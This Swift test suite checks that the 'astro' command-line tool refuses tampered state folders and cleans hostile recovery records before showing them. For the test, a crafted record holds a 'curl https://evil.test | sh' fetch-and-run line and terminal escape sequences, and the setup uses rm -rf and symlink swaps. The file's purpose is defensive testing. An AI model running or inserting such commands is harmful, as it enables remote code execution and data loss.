import Foundation
import Testing

@Suite(
    "State of another user (as root)",
    .enabled(if: geteuid() == 0 || ProcessInfo.processInfo.environment["CI"] != nil))
struct StateOfOthersTests {
    let sandbox: ServedSandbox
    let client: BuiltProgram
    static let record = "recovery/\(ServedSandbox.token).json"

    init() async throws {
        sandbox = try await ServedSandbox()
        client = try sandbox.client()
    }

    /// Ways to put something else in the place of a file or folder.
    static let swaps = [
        "mv $path $HOME/elsewhere 2>/dev/null || mkdir $HOME/elsewhere; ln -s $HOME/elsewhere $path",
        "rm -rf $path; ln -s $HOME/nowhere $path", "rm -rf $path; mkfifo $path", "rm -rf $path; mknod $path c 1 3",
        "test -e $path || : > $path; chown 54321 $path",
    ]

    @Test(
        "is refused before any request, with its path",
        arguments: [
            "", "recovery", "locks", "audit.jsonl", Self.record, "locks/\(ServedSandbox.token).json.lock",
        ], Self.swaps)
    func refused(part: String, swap: String) async throws {
        let value = try await client.shell("astro \(BareMachineTests.rotate)").stdout.dropLast()
        let state = client.home.appending(path: ".astro").path()
        let path = part.isEmpty ? state : "\(state)/\(part)"
        try await client.shell("path=\(path); \(swap)").isFine()
        let outcome = try await client.shell("timeout -s KILL 20 astro \(BareMachineTests.rotate)")
        #expect(outcome.exitCode == 1 && outcome.stdout == "", "\(outcome)")
        #expect(outcome.stderr.contains(path) && outcome.stderr.contains("nothing was changed"), "\(outcome.stderr)")
        #expect(outcome.stderr.contains("ASTRO_HOME"), "\(outcome.stderr)")
        // Commands that only read continue, with the value that was not replaced.
        let list = ["deployment", "token", "list", "--deployment", ServedSandbox.production]
        let reading = try await client.run(list, extra: ["ASTRO_API_TOKEN": String(value)])
        #expect(reading.exitCode == 0, "\(reading.stderr)")
    }

    @Test("is not confused with a home behind a link, which is fine")
    func linkedHome() async throws {
        let line = "mkdir $HOME/real; ln -s real $HOME/link; HOME=$HOME/link astro \(BareMachineTests.rotate)"
        try await client.shell(line).isFine()
    }

    @Test("can be used by root in the owner's home, and keeps its owner")
    func root() async throws {
        try await client.shell(
            """
            set -e; mkdir $HOME/theirs; chown 54321 $HOME/theirs; chmod 711 $HOME
            for user in '' '\(BareMachineTests.stranger)' '' '\(BareMachineTests.stranger)'; do
                HOME=$HOME/theirs $user astro \(BareMachineTests.rotate)
            done
            test -z "$(find $HOME/theirs -not -user 54321)"
            """
        ).isFine()
    }

    @Test("cannot make the program show an unknown command, or send escapes to the terminal")
    func words() async throws {
        let record = """
            {"name":"\(ServedSandbox.token)","subject":"the \\u001b[2Jtoken","step":"rotating\\u0007",
            "askedAt":"2026-01-01T00:00:00Z","secret":"eyJ.a.b","remedy":"curl https://evil.test | sh"}
            """
        try await client.shell("mkdir -p -m 700 $HOME/.astro/recovery").isFine()
        let path = client.home.appending(path: ".astro/\(Self.record)")
        try Data(record.replacing("\n", with: "").utf8).write(to: path)
        for words in ["organization token list", "deployment token recover --list"] {
            let outcome = try await client.shell("astro \(words)")
            let said = outcome.stdout + outcome.stderr
            #expect(!said.contains("curl") && !said.contains("\u{1B}") && !said.contains("\u{07}"), "\(said)")
        }
        #expect(try await client.shell("astro organization token list").stderr.contains("token recover"))
        for command in ["rotate x --to-command curl", "delete x", "rotate x --context evil.test", "recover x"] {
            let words = "deployment token \(command)".split(separator: " ").map { "\"\($0)\"" }
            let unanswered = record.replacing("\n", with: "").replacing(
                #""secret":"eyJ.a.b""#, with: #""repetition":[\#(words.joined(separator: ","))]"#)
            try Data(unanswered.utf8).write(to: path)
            let said = try await client.shell("astro organization token list").stderr
            #expect(said.contains("its outcome is unknown") && !said.contains("hint:"), "\(said)")
        }
    }
}
